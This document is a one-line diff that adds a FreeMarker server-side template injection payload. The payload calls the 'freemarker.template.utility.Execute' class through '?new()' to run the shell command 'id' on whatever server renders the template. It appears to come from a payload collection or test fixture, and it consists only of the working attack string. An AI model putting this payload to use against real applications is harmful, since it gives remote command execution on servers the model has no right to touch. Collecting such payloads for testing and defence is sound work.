@@ -1,0 +1,1 @@
+${"Hello ${'freemarker.template.utility.Execute'?new()('id')}"}
